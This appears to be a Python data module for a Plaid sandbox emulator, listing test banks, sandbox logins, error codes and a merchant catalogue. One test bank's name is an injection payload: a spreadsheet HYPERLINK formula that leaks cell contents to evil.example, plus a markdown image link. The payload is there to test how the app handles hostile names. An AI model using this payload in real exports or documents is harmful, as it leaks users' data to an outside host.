"""Static data the emulated world is built from: Plaid's sandbox institutions, users and a merchant catalogue.

Every personal_finance_category below is a PFC v2 primary/detailed pair from Plaid's taxonomy
(tests/contract checks each one against pfc-taxonomy-all.csv).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

ENVIRONMENT = "sandbox"
ALL_PRODUCTS = ("assets", "auth", "balance", "identity", "investments", "liabilities", "transactions")


@dataclass(frozen=True)
class Institution:
    institution_id: str
    name: str
    country_codes: tuple[str, ...]
    oauth: bool
    routing_numbers: tuple[str, ...]
    primary_color: str
    url: str


INSTITUTIONS: tuple[Institution, ...] = (
    Institution("ins_109508", "First Platypus Bank", ("US",), False, ("011000138",), "#1f1f1f", "https://plaid.com"),
    Institution(
        "ins_109509", "First Gingham Credit Union", ("US",), False, ("011000028",), "#53a2d6", "https://plaid.com"
    ),
    Institution(
        "ins_109510", "Tattersall Federal Credit Union", ("US",), False, ("011000015",), "#0a7f53", "https://plaid.com"
    ),
    Institution("ins_109511", "Tartan Bank", ("US",), False, ("011000138",), "#b52a2a", "https://plaid.com"),
    Institution("ins_109512", "Houndstooth Bank", ("US",), False, ("021000021",), "#333366", "https://plaid.com"),
    Institution(
        "ins_130016", "First Platypus Balance Bank", ("US",), False, ("011000138",), "#1f1f1f", "https://plaid.com"
    ),
    Institution("ins_135858", "Windowpane Bank", ("US",), False, ("333333334",), "#5c8fd6", "https://plaid.com"),
    Institution("ins_127287", "Platypus OAuth Bank", ("US",), True, ("011000138",), "#00a0a0", "https://plaid.com"),
    Institution(
        "ins_132241", "First Platypus OAuth App2App Bank", ("US",), True, ("011000138",), "#00a0a0", "https://plaid.com"
    ),
    Institution("ins_43", "Tartan-Dominion Bank of Canada", ("CA",), False, (), "#d52b1e", "https://plaid.com"),
    Institution("ins_117650", "Royal Bank of Plaid", ("GB",), False, (), "#2a3b8f", "https://plaid.com"),
    # The hostile bank (core/emulator/hostile.py): its names attack every place Finboard shows them.
    Institution(
        "ins_666666",
        '=HYPERLINK("http://evil.example/?leak="&A1,"Hostile Bank") ![logo](http://127.0.0.1:9/logo.png)',
        ("US",),
        False,
        ("011000138",),
        "#000000",
        "https://plaid.com",
    ),
)
INSTITUTIONS_BY_ID = {i.institution_id: i for i in INSTITUTIONS}


def check_credentials(username: str, password: str) -> str | None:
    """The error code Link or /sandbox/public_token/create should fail with, or None when the login works.

    Like Plaid's sandbox: user_good/pass_good; user_transactions_dynamic (and the persona users) with any
    non-blank password; and password ``error_<ERROR_CODE>`` (e.g. error_ITEM_LOCKED) forces that error.
    """
    if password.startswith("error_") and password[6:] in FORCEABLE_ERRORS:
        return password[6:]
    if username == "user_good" and password == "pass_good":  # noqa: S105 - Plaid's published sandbox login
        return None
    if username in DYNAMIC_USERS and password:
        return None
    return "INVALID_CREDENTIALS"


DYNAMIC_USERS = ("user_transactions_dynamic", "user_ewa_user", "user_yuppie", "user_small_business")

# error_<CODE> passwords Plaid's sandbox honours; each maps to (error_type, http status, display message).
FORCEABLE_ERRORS: dict[str, tuple[str, int, str | None]] = {
    "INVALID_CREDENTIALS": (
        "ITEM_ERROR",
        400,
        "The credentials you provided were incorrect. Check that your credentials are the same that you use "
        "for this institution",
    ),
    "INVALID_MFA": ("ITEM_ERROR", 400, "The provided MFA responses were not correct. Please try again."),
    "ITEM_LOCKED": (
        "ITEM_ERROR",
        400,
        "The account is locked. Please contact your financial institution to unlock it.",
    ),
    "ITEM_NOT_SUPPORTED": ("ITEM_ERROR", 400, "Account not currently supported."),
    "NO_ACCOUNTS": ("ITEM_ERROR", 400, "No valid accounts were found at the financial institution."),
    "USER_SETUP_REQUIRED": (
        "ITEM_ERROR",
        400,
        "Log in to your financial institution's website to complete account setup, then try again.",
    ),
    "INSTITUTION_DOWN": (
        "INSTITUTION_ERROR",
        400,
        "This financial institution is not currently responding to requests. We apologize for the inconvenience.",
    ),
    "INSTITUTION_NOT_RESPONDING": (
        "INSTITUTION_ERROR",
        400,
        "This financial institution is not currently responding to requests. We apologize for the inconvenience.",
    ),
    "INSTITUTION_NO_LONGER_SUPPORTED": (
        "INSTITUTION_ERROR",
        400,
        "This financial institution is no longer supported.",
    ),
}

# ----------------------------------------------------------------------------------------------------------------
# Merchants. A template says what a transaction looks like; world.py decides when it happens and how much.

Channel = Literal["online", "in store", "other"]
Funding = Literal["card", "debit", "checking"]  # card: usually the credit card; debit: checking card; checking: ACH


@dataclass(frozen=True)
class Merchant:
    key: str
    name: str  # Plaid's legacy `name` (cleaned description)
    merchant_name: str | None
    detailed: str  # PFC v2 detailed; the primary is derived from it
    confidence: str
    channel: Channel
    low_cents: int
    high_cents: int
    weight: float = 0.0  # relative frequency among everyday purchases (0 = never picked at random)
    funding: Funding = "card"
    website: str | None = None
    post_days: tuple[int, int] = (1, 3)  # pending for this many days before posting; (0, 0) = posts at once
    tip: bool = False  # restaurants: the posted amount includes a tip the authorization did not
    refundable: bool = False
    counterparty_type: str = "merchant"


PRIMARIES = (
    "INCOME",
    "TRANSFER_IN",
    "TRANSFER_OUT",
    "LOAN_PAYMENTS",
    "LOAN_DISBURSEMENTS",
    "BANK_FEES",
    "ENTERTAINMENT",
    "FOOD_AND_DRINK",
    "GENERAL_MERCHANDISE",
    "HOME_IMPROVEMENT",
    "MEDICAL",
    "PERSONAL_CARE",
    "GENERAL_SERVICES",
    "GOVERNMENT_AND_NON_PROFIT",
    "TRANSPORTATION",
    "TRAVEL",
    "RENT_AND_UTILITIES",
    "OTHER",
)


def primary_of(detailed: str) -> str:
    """PFC v2 detailed names are <PRIMARY>_<suffix>; the longest matching primary wins (TRANSFER_IN vs TRANSFER)."""
    return max((p for p in PRIMARIES if detailed.startswith(p + "_")), key=len)


M = Merchant
EVERYDAY: tuple[Merchant, ...] = (
    M(
        "safeway",
        "Safeway",
        "Safeway",
        "FOOD_AND_DRINK_GROCERIES",
        "VERY_HIGH",
        "in store",
        1800,
        14500,
        3,
        "debit",
        "safeway.com",
    ),
    M(
        "trader_joes",
        "Trader Joe's",
        "Trader Joe's",
        "FOOD_AND_DRINK_GROCERIES",
        "VERY_HIGH",
        "in store",
        1500,
        9500,
        3,
        "card",
        "traderjoes.com",
    ),
    M(
        "whole_foods",
        "Whole Foods Market",
        "Whole Foods Market",
        "FOOD_AND_DRINK_GROCERIES",
        "VERY_HIGH",
        "in store",
        1200,
        12000,
        1.5,
        "card",
        "wholefoodsmarket.com",
    ),
    M(
        "starbucks",
        "Starbucks",
        "Starbucks",
        "FOOD_AND_DRINK_COFFEE",
        "VERY_HIGH",
        "in store",
        395,
        1450,
        12,
        "card",
        "starbucks.com",
    ),
    M(
        "blue_bottle",
        "Blue Bottle Coffee",
        "Blue Bottle Coffee",
        "FOOD_AND_DRINK_COFFEE",
        "HIGH",
        "in store",
        450,
        1200,
        4,
        "card",
        "bluebottlecoffee.com",
    ),
    M(
        "chipotle",
        "Chipotle Mexican Grill",
        "Chipotle Mexican Grill",
        "FOOD_AND_DRINK_FAST_FOOD",
        "VERY_HIGH",
        "in store",
        1050,
        2600,
        5,
        "card",
        "chipotle.com",
    ),
    M(
        "mcdonalds",
        "McDonald's",
        "McDonald's",
        "FOOD_AND_DRINK_FAST_FOOD",
        "VERY_HIGH",
        "in store",
        650,
        1800,
        3,
        "debit",
        "mcdonalds.com",
    ),
    M("nopa", "Nopa", "Nopa", "FOOD_AND_DRINK_RESTAURANT", "HIGH", "in store", 3500, 16000, 1, "card", None, tip=True),
    M(
        "olive_garden",
        "Olive Garden",
        "Olive Garden",
        "FOOD_AND_DRINK_RESTAURANT",
        "VERY_HIGH",
        "in store",
        2800,
        9500,
        0.7,
        "card",
        "olivegarden.com",
        tip=True,
    ),
    M(
        "sushi_ran",
        "Sushi Ran",
        "Sushi Ran",
        "FOOD_AND_DRINK_RESTAURANT",
        "MEDIUM",
        "in store",
        4200,
        18000,
        0.6,
        "card",
        None,
        tip=True,
    ),
    M(
        "doordash",
        "DoorDash",
        "DoorDash",
        "FOOD_AND_DRINK_RESTAURANT",
        "HIGH",
        "online",
        1800,
        6500,
        2.5,
        "card",
        "doordash.com",
    ),
    M(
        "bevmo",
        "BevMo!",
        "BevMo!",
        "FOOD_AND_DRINK_BEER_WINE_AND_LIQUOR",
        "HIGH",
        "in store",
        1500,
        7500,
        0.6,
        "card",
        "bevmo.com",
    ),
    M(
        "amazon",
        "Amazon",
        "Amazon",
        "GENERAL_MERCHANDISE_ONLINE_MARKETPLACES",
        "VERY_HIGH",
        "online",
        899,
        18000,
        5,
        "card",
        "amazon.com",
        post_days=(1, 5),
        refundable=True,
    ),
    M(
        "target",
        "Target",
        "Target",
        "GENERAL_MERCHANDISE_SUPERSTORES",
        "VERY_HIGH",
        "in store",
        1200,
        15000,
        2,
        "card",
        "target.com",
        refundable=True,
    ),
    M(
        "walmart",
        "Walmart",
        "Walmart",
        "GENERAL_MERCHANDISE_SUPERSTORES",
        "VERY_HIGH",
        "in store",
        900,
        12000,
        1,
        "debit",
        "walmart.com",
        refundable=True,
    ),
    M(
        "uniqlo",
        "Uniqlo",
        "Uniqlo",
        "GENERAL_MERCHANDISE_CLOTHING_AND_ACCESSORIES",
        "HIGH",
        "in store",
        2500,
        16000,
        0.5,
        "card",
        "uniqlo.com",
        refundable=True,
    ),
    M(
        "best_buy",
        "Best Buy",
        "Best Buy",
        "GENERAL_MERCHANDISE_ELECTRONICS",
        "VERY_HIGH",
        "in store",
        1999,
        65000,
        0.2,
        "card",
        "bestbuy.com",
        refundable=True,
    ),
    M(
        "chewy",
        "Chewy",
        "Chewy",
        "GENERAL_MERCHANDISE_PET_SUPPLIES",
        "HIGH",
        "online",
        2500,
        9000,
        0.5,
        "card",
        "chewy.com",
        post_days=(1, 4),
    ),
    M(
        "walgreens",
        "Walgreens",
        "Walgreens",
        "MEDICAL_PHARMACIES_AND_SUPPLEMENTS",
        "VERY_HIGH",
        "in store",
        599,
        6500,
        2,
        "debit",
        "walgreens.com",
    ),
    M(
        "one_medical",
        "One Medical",
        "One Medical",
        "MEDICAL_PRIMARY_CARE",
        "HIGH",
        "online",
        2500,
        20000,
        0.2,
        "card",
        "onemedical.com",
        post_days=(2, 5),
    ),
    M(
        "home_depot",
        "The Home Depot",
        "The Home Depot",
        "HOME_IMPROVEMENT_HARDWARE",
        "VERY_HIGH",
        "in store",
        1500,
        25000,
        0.6,
        "card",
        "homedepot.com",
        refundable=True,
    ),
    M(
        "supercuts",
        "Supercuts",
        "Supercuts",
        "PERSONAL_CARE_HAIR_AND_BEAUTY",
        "HIGH",
        "in store",
        2800,
        6500,
        0.4,
        "card",
        "supercuts.com",
        tip=True,
    ),
    M("shell", "Shell", "Shell", "TRANSPORTATION_GAS", "VERY_HIGH", "in store", 3000, 8500, 1.5, "card", "shell.com"),
    M(
        "chevron",
        "Chevron",
        "Chevron",
        "TRANSPORTATION_GAS",
        "VERY_HIGH",
        "in store",
        2800,
        9000,
        1,
        "debit",
        "chevron.com",
    ),
    M(
        "uber",
        "Uber 072515 SF**POOL**",
        "Uber",
        "TRANSPORTATION_TAXIS_AND_RIDE_SHARES",
        "VERY_HIGH",
        "online",
        850,
        4800,
        4,
        "card",
        "uber.com",
        post_days=(1, 2),
    ),
    M(
        "lyft",
        "Lyft",
        "Lyft",
        "TRANSPORTATION_TAXIS_AND_RIDE_SHARES",
        "VERY_HIGH",
        "online",
        900,
        4200,
        2,
        "card",
        "lyft.com",
        post_days=(1, 2),
    ),
    M(
        "bart",
        "BART Clipper",
        "Clipper",
        "TRANSPORTATION_PUBLIC_TRANSIT",
        "HIGH",
        "online",
        500,
        5000,
        5,
        "debit",
        "clippercard.com",
    ),
    M(
        "sfmta_parking",
        "SFMTA Parking",
        "SFMTA",
        "TRANSPORTATION_PARKING",
        "MEDIUM",
        "in store",
        300,
        2800,
        2,
        "card",
        "sfmta.com",
    ),
    M(
        "amc",
        "AMC Theatres",
        "AMC Theatres",
        "ENTERTAINMENT_TV_AND_MOVIES",
        "VERY_HIGH",
        "in store",
        1400,
        4800,
        0.5,
        "card",
        "amctheatres.com",
    ),
    M(
        "steam",
        "Steam Games",
        "Steam",
        "ENTERTAINMENT_VIDEO_GAMES",
        "HIGH",
        "online",
        499,
        5999,
        0.4,
        "card",
        "steampowered.com",
    ),
    M(
        "ticketmaster",
        "Ticketmaster",
        "Ticketmaster",
        "ENTERTAINMENT_SPORTING_EVENTS_AMUSEMENT_PARKS_AND_MUSEUMS",
        "HIGH",
        "online",
        4500,
        28000,
        0.15,
        "card",
        "ticketmaster.com",
    ),
    M(
        "usps",
        "USPS",
        "USPS",
        "GENERAL_SERVICES_POSTAGE_AND_SHIPPING",
        "HIGH",
        "in store",
        150,
        2500,
        0.4,
        "debit",
        "usps.com",
    ),
    M(
        "red_cross",
        "American Red Cross",
        "American Red Cross",
        "GOVERNMENT_AND_NON_PROFIT_DONATIONS",
        "MEDIUM",
        "online",
        2500,
        10000,
        0.1,
        "card",
        "redcross.org",
        post_days=(0, 0),
    ),
    M(
        "atm",
        "ATM Withdrawal",
        None,
        "TRANSFER_OUT_WITHDRAWAL",
        "VERY_HIGH",
        "in store",
        2000,
        20000,
        0.5,
        "debit",
        None,
        post_days=(0, 0),
        counterparty_type="financial_institution",
    ),
)

# Travel: used on trip days instead of (part of) the everyday mix.
TRAVEL_FLIGHT = M(
    "united",
    "United Airlines",
    "United Airlines",
    "TRAVEL_FLIGHTS",
    "VERY_HIGH",
    "online",
    18000,
    72000,
    0,
    "card",
    "united.com",
    post_days=(1, 3),
)
TRAVEL_HOTEL = M(
    "marriott",
    "Marriott",
    "Marriott",
    "TRAVEL_LODGING",
    "VERY_HIGH",
    "in store",
    15000,
    32000,
    0,
    "card",
    "marriott.com",
    post_days=(1, 4),
)
TRAVEL_CAR = M(
    "hertz",
    "Hertz",
    "Hertz",
    "TRAVEL_RENTAL_CARS",
    "VERY_HIGH",
    "in store",
    4500,
    9500,
    0,
    "card",
    "hertz.com",
    post_days=(1, 4),
)
TRAVEL_EVERYDAY: tuple[Merchant, ...] = (
    M(
        "local_bistro",
        "Le Petit Bistro",
        "Le Petit Bistro",
        "FOOD_AND_DRINK_RESTAURANT",
        "MEDIUM",
        "in store",
        3200,
        14000,
        5,
        "card",
        None,
        tip=True,
    ),
    M(
        "tim_hortons",
        "Tim Hortons",
        "Tim Hortons",
        "FOOD_AND_DRINK_COFFEE",
        "VERY_HIGH",
        "in store",
        250,
        1200,
        3,
        "card",
        "timhortons.com",
    ),
    M(
        "cab",
        "Yellow Cab",
        "Yellow Cab",
        "TRANSPORTATION_TAXIS_AND_RIDE_SHARES",
        "HIGH",
        "in store",
        1200,
        5500,
        3,
        "card",
        None,
    ),
    M(
        "museum",
        "Museum of Fine Arts",
        "Museum of Fine Arts",
        "ENTERTAINMENT_SPORTING_EVENTS_AMUSEMENT_PARKS_AND_MUSEUMS",
        "MEDIUM",
        "in store",
        1800,
        6000,
        1,
        "card",
        None,
    ),
    M(
        "duty_free",
        "Duty Free Shop",
        "Duty Free Americas",
        "GENERAL_MERCHANDISE_OTHER_GENERAL_MERCHANDISE",
        "LOW",
        "in store",
        1500,
        12000,
        1,
        "card",
        None,
    ),
)

# Recurring bills and subscriptions: (merchant, day of month). Amounts are fixed per item (drawn once).
SUBSCRIPTIONS: tuple[tuple[Merchant, int], ...] = (
    (
        M(
            "netflix",
            "Netflix",
            "Netflix",
            "ENTERTAINMENT_TV_AND_MOVIES",
            "VERY_HIGH",
            "online",
            1549,
            1549,
            0,
            "card",
            "netflix.com",
            post_days=(0, 0),
        ),
        7,
    ),
    (
        M(
            "spotify",
            "Spotify",
            "Spotify",
            "ENTERTAINMENT_MUSIC_AND_AUDIO",
            "VERY_HIGH",
            "online",
            1199,
            1199,
            0,
            "card",
            "spotify.com",
            post_days=(0, 0),
        ),
        12,
    ),
    (
        M(
            "icloud",
            "Apple iCloud",
            "Apple",
            "GENERAL_SERVICES_OTHER_GENERAL_SERVICES",
            "HIGH",
            "online",
            299,
            299,
            0,
            "card",
            "apple.com",
            post_days=(0, 0),
        ),
        18,
    ),
    (
        M(
            "planet_fitness",
            "Planet Fitness",
            "Planet Fitness",
            "PERSONAL_CARE_GYMS_AND_FITNESS_CENTERS",
            "VERY_HIGH",
            "other",
            2499,
            2499,
            0,
            "card",
            "planetfitness.com",
            post_days=(0, 0),
        ),
        17,
    ),
    (
        M(
            "nytimes",
            "The New York Times",
            "The New York Times",
            "GENERAL_MERCHANDISE_BOOKSTORES_AND_NEWSSTANDS",
            "HIGH",
            "online",
            1700,
            1700,
            0,
            "card",
            "nytimes.com",
            post_days=(0, 0),
        ),
        3,
    ),
    (
        M(
            "comcast",
            "Comcast Xfinity",
            "Xfinity",
            "RENT_AND_UTILITIES_INTERNET_AND_CABLE",
            "VERY_HIGH",
            "online",
            7999,
            7999,
            0,
            "card",
            "xfinity.com",
            post_days=(0, 0),
        ),
        9,
    ),
    (
        M(
            "verizon",
            "Verizon Wireless",
            "Verizon",
            "RENT_AND_UTILITIES_TELEPHONE",
            "VERY_HIGH",
            "online",
            8500,
            8500,
            0,
            "card",
            "verizon.com",
            post_days=(0, 0),
        ),
        21,
    ),
    (
        M(
            "geico",
            "GEICO Auto Insurance",
            "GEICO",
            "GENERAL_SERVICES_INSURANCE",
            "VERY_HIGH",
            "other",
            11800,
            11800,
            0,
            "checking",
            "geico.com",
            post_days=(0, 0),
        ),
        14,
    ),
)

# Bills with a varying amount, paid from checking by ACH.
ELECTRIC = M(
    "pge",
    "PG&E Web Online",
    "Pacific Gas and Electric",
    "RENT_AND_UTILITIES_GAS_AND_ELECTRICITY",
    "VERY_HIGH",
    "other",
    6000,
    21000,
    0,
    "checking",
    "pge.com",
    post_days=(0, 0),
)
WATER = M(
    "water",
    "SFPUC Water Power Sewer",
    "SFPUC",
    "RENT_AND_UTILITIES_WATER",
    "HIGH",
    "other",
    6500,
    14000,
    0,
    "checking",
    "sfpuc.org",
    post_days=(0, 0),
)
RENT = M(
    "rent",
    "Greystar Rent Payment",
    "Greystar",
    "RENT_AND_UTILITIES_RENT",
    "HIGH",
    "other",
    0,
    0,
    0,
    "checking",
    "greystar.com",
    post_days=(0, 0),
)
TAX_REFUND = M(
    "irs_refund",
    "IRS TREAS 310 TAX REF",
    "Internal Revenue Service",
    "INCOME_TAX_REFUND",
    "VERY_HIGH",
    "other",
    40000,
    240000,
    0,
    "checking",
    "irs.gov",
    post_days=(0, 0),
    counterparty_type="income_source",
)
INVESTMENT = M(
    "vanguard",
    "Vanguard Buy Investment",
    "Vanguard",
    "TRANSFER_OUT_INVESTMENT_AND_RETIREMENT_FUNDS",
    "VERY_HIGH",
    "other",
    0,
    0,
    0,
    "checking",
    "vanguard.com",
    post_days=(0, 0),
    counterparty_type="financial_institution",
)

# CAD account: an Interac e-transfer now and then, everyday spending while in Canada.
INTERAC = M(
    "interac",
    "Interac e-Transfer Deposit",
    None,
    "TRANSFER_IN_DEPOSIT",
    "HIGH",
    "other",
    30000,
    80000,
    0,
    "checking",
    None,
    post_days=(0, 0),
    counterparty_type="payment_app",
)


# Non-merchant rows (income, transfers, fees, interest): name, PFC detailed, confidence.
SALARY = ("{employer} Payroll", "INCOME_SALARY", "VERY_HIGH")
INTEREST = ("Interest Paid", "INCOME_INTEREST_EARNED", "VERY_HIGH")
TRANSFER_TO_SAVINGS = ("Online Transfer to Savings {mask}", "TRANSFER_OUT_SAVINGS", "VERY_HIGH")
TRANSFER_FROM_CHECKING = ("Online Transfer from Checking {mask}", "TRANSFER_IN_SAVINGS", "VERY_HIGH")
TRANSFER_OUT = ("Online Transfer to {name} {mask}", "TRANSFER_OUT_ACCOUNT_TRANSFER", "VERY_HIGH")
TRANSFER_IN = ("Online Transfer from {name} {mask}", "TRANSFER_IN_ACCOUNT_TRANSFER", "VERY_HIGH")
CARD_PAYMENT_OUT = ("Credit Card Payment to {name} {mask}", "LOAN_PAYMENTS_CREDIT_CARD_PAYMENT", "VERY_HIGH")
CARD_PAYMENT_IN = ("Payment Thank You - Web", "LOAN_PAYMENTS_CREDIT_CARD_PAYMENT", "VERY_HIGH")
MORTGAGE_OUT = ("Mortgage Payment {mask}", "LOAN_PAYMENTS_MORTGAGE_PAYMENT", "VERY_HIGH")
MORTGAGE_IN = ("Payment Received - Thank You", "LOAN_PAYMENTS_MORTGAGE_PAYMENT", "VERY_HIGH")
STUDENT_OUT = ("Student Loan Payment {mask}", "LOAN_PAYMENTS_STUDENT_LOAN_PAYMENT", "VERY_HIGH")
STUDENT_IN = ("Payment Received - Thank You", "LOAN_PAYMENTS_STUDENT_LOAN_PAYMENT", "VERY_HIGH")
MAINTENANCE_FEE = ("Monthly Maintenance Fee", "BANK_FEES_OTHER_BANK_FEES", "VERY_HIGH")
ATM_FEE = ("ATM Fee", "BANK_FEES_ATM_FEES", "VERY_HIGH")
OVERDRAFT_FEE = ("Overdraft Item Fee", "BANK_FEES_OVERDRAFT_FEES", "VERY_HIGH")
FOREIGN_FEE = ("Foreign Transaction Fee", "BANK_FEES_FOREIGN_TRANSACTION_FEES", "VERY_HIGH")
LATE_FEE = ("Late Payment Fee", "BANK_FEES_LATE_FEES", "VERY_HIGH")
INTEREST_CHARGE = ("Interest Charge on Purchases", "BANK_FEES_INTEREST_CHARGE", "VERY_HIGH")

EMPLOYERS = ("Northwind Labs", "Globex", "Initech", "Umbrella Health", "Stark Logistics", "Wayne Analytics")

# Where the account holder lives; trips go to the others.
Place = tuple[str, str, str, str, float, float]  # city, region, postal code, country, lat, lon
HOME_CITIES: tuple[Place, ...] = (
    ("San Francisco", "CA", "94110", "US", 37.7599, -122.4148),
    ("Oakland", "CA", "94612", "US", 37.8044, -122.2712),
    ("Seattle", "WA", "98109", "US", 47.6246, -122.3442),
    ("Austin", "TX", "78701", "US", 30.2711, -97.7437),
    ("Chicago", "IL", "60614", "US", 41.9214, -87.6513),
    ("Denver", "CO", "80206", "US", 39.7312, -104.9526),
)
TRIP_CITIES: tuple[Place, ...] = (
    ("New York", "NY", "10013", "US", 40.7209, -74.0007),
    ("Boston", "MA", "02116", "US", 42.3496, -71.0746),
    ("Miami", "FL", "33139", "US", 25.7907, -80.1300),
    ("Toronto", "ON", "M5V 2T6", "CA", 43.6426, -79.3871),
    ("Vancouver", "BC", "V6B 1A1", "CA", 49.2827, -123.1207),
    ("New Orleans", "LA", "70130", "US", 29.9511, -90.0715),
)
STREETS = (
    "Market St",
    "Mission St",
    "Main St",
    "Broadway",
    "Valencia St",
    "Oak Ave",
    "Pine St",
    "2nd Ave",
    "Elm St",
    "Lake Shore Dr",
    "Congress Ave",
    "Pike St",
)

OWNERS = (
    ("Alberta Bobbeth Charleson", "accountholder0@example.com", "1112223333", "2992 Cameron Road"),
    ("Jordan Avery Quill", "jordan.quill@example.com", "4155550142", "77 Fulton Street"),
    ("Sam Rivera Okafor", "sam.okafor@example.com", "2065550187", "1400 Pine Street"),
)


# Every merchant by key (bodies.py looks them up when it writes a transaction).
MERCHANTS: dict[str, Merchant] = {
    m.key: m
    for m in (
        *EVERYDAY,
        *TRAVEL_EVERYDAY,
        *(s for s, _ in SUBSCRIPTIONS),
        TRAVEL_FLIGHT,
        TRAVEL_HOTEL,
        TRAVEL_CAR,
        ELECTRIC,
        WATER,
        RENT,
        TAX_REFUND,
        INVESTMENT,
        INTERAC,
    )
}


def emitted_categories() -> set[tuple[str, str]]:
    """Every (primary, detailed) PFC pair the world can produce; the contract tests check them against the taxonomy."""
    rows = (
        SALARY,
        INTEREST,
        TRANSFER_TO_SAVINGS,
        TRANSFER_FROM_CHECKING,
        TRANSFER_OUT,
        TRANSFER_IN,
        CARD_PAYMENT_OUT,
        CARD_PAYMENT_IN,
        MORTGAGE_OUT,
        MORTGAGE_IN,
        STUDENT_OUT,
        STUDENT_IN,
        MAINTENANCE_FEE,
        ATM_FEE,
        OVERDRAFT_FEE,
        FOREIGN_FEE,
        LATE_FEE,
        INTEREST_CHARGE,
    )
    details = {m.detailed for m in MERCHANTS.values()} | {r[1] for r in rows} | {"OTHER_OTHER"}
    return {(primary_of(d), d) for d in details}
